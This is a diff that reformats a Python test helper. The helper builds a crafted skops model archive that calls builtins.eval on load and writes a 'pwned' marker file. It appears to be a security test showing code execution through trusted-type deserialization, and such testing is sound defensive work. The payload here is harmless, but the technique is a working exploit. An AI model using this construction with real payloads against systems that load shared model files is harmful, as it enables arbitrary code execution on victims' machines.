@@ -20,12 +20,31 @@ def eval_skops(path: Path, marker: Path) -> Path:
     with ``builtins.eval`` trusted, ``marker`` appears.
     """
     code = f"open({str(marker)!r}, 'w').write('pwned')"
-    args = _node("tuple", "builtins", "TupleNode", __id__=3,
-                 content=[_node("str", "builtins", "JsonNode", content=json.dumps(code), is_json=True, __id__=2)])
-    attrs = _node("dict", "builtins", "DictNode", content={}, __id__=4,
-                  key_types=_node("list", "builtins", "ListNode", content=[], __id__=5))
-    schema = _node("eval", "builtins", "LossNode", __reduce__={"args": args}, content=attrs, __id__=1,
-                   protocol=2, _skops_version="0.16.0")
+    args = _node(
+        "tuple",
+        "builtins",
+        "TupleNode",
+        __id__=3,
+        content=[_node("str", "builtins", "JsonNode", content=json.dumps(code), is_json=True, __id__=2)],
+    )
+    attrs = _node(
+        "dict",
+        "builtins",
+        "DictNode",
+        content={},
+        __id__=4,
+        key_types=_node("list", "builtins", "ListNode", content=[], __id__=5),
+    )
+    schema = _node(
+        "eval",
+        "builtins",
+        "LossNode",
+        __reduce__={"args": args},
+        content=attrs,
+        __id__=1,
+        protocol=2,
+        _skops_version="0.16.0",
+    )
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("schema.json", json.dumps(schema))
     return path
